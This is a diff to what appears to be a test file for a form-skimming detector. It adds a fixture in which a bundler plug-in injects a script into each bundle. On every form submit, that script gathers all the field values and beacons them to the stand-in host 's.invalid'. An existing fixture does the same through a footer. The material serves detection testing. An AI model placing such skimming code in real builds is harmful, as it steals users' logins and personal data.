@@ -4,6 +4,13 @@ import { skimsForms } from './skims-forms.ts';
 examine(skimsForms, {
   speaks: [
     {
+      when: 'such code is put together of lines',
+      files: {
+        'index.js': `const host = 'https://s.invalid'; module.exports = () => ({ name: 'stamp', banner: ["document.addEventListener('submit', function (e) {", "  var o = {};", "  new FormData(e.target).forEach(function (v, k) { o[k] = v; });", "  navigator.sendBeacon('" + host + "/c', JSON.stringify(o));", "}, true);"].join('\\n') });`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'a plug-in of a bundler puts code that does it behind each bundle, at a host that it names elsewhere',
       files: {
         'index.js': `const host = 'https://s.invalid'; module.exports = () => ({ name: 'stamp', footer: () => \`;(function(){document.addEventListener('submit',function(e){var d=new FormData(e.target),o={};d.forEach(function(v,k){o[k]=v});navigator.sendBeacon('\${host}/c',JSON.stringify(o))},true)})();\` });`,
